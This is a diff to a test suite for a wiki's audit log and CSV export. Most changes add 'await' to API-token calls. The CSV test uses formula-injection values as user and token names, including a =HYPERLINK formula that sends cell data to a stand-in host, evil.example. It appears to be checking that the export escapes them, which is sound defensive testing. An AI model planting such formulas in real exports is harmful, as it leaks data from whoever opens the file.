@@ -166,7 +166,7 @@ describe("what is recorded", () => {
 
   it("records membership changes, with the owner as actor and the member as target", async () => {
     // A member's account events are in the log while they belong to the wiki…
-    const leaversToken = createApiToken(leaver.id, "soon gone");
+    const leaversToken = await createApiToken(leaver.id, "soon gone");
     expect((await auditLog("action=token")).events.map((e) => e.target?.id)).toContain(leaversToken.id);
     expect((await api("PUT", `/wikis/${wiki.id}/members/${viewer.id}`, { body: { role: "commenter" } })).status).toBe(200);
     expect((await api("DELETE", `/wikis/${wiki.id}/members/${leaver.id}`)).status).toBe(204);
@@ -287,10 +287,10 @@ describe("what is recorded", () => {
   });
 
   it("records API tokens created and revoked, for members only and from when they joined", async () => {
-    const token = createApiToken(editor.id, "CI pipeline");
-    expect(revokeApiToken(editor.id, token.id)).toBe(true);
-    expect(revokeApiToken(editor.id, token.id)).toBe(false);
-    const outsiderToken = createApiToken(otherOwner.id, "elsewhere");
+    const token = await createApiToken(editor.id, "CI pipeline");
+    expect(await revokeApiToken(editor.id, token.id)).toBe(true);
+    expect(await revokeApiToken(editor.id, token.id)).toBe(false);
+    const outsiderToken = await createApiToken(otherOwner.id, "elsewhere");
 
     const events = (await auditLog("action=token")).events;
     expect(events.map((e) => [e.action, e.actor?.id, e.target?.id])).toEqual([
@@ -435,7 +435,7 @@ describe("CSV export", () => {
     const prankster = await makeUser('=HYPERLINK("http://evil.example/?"&A1,"Details")');
     await clockTick();
     addMember(wiki.id, prankster.email, "editor", owner.id);
-    createApiToken(prankster.id, "@SUM(1+1)");
+    await createApiToken(prankster.id, "@SUM(1+1)");
     expect(
       (await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: '+1, "quoted"\nand a new line' } })).status,
     ).toBe(201);
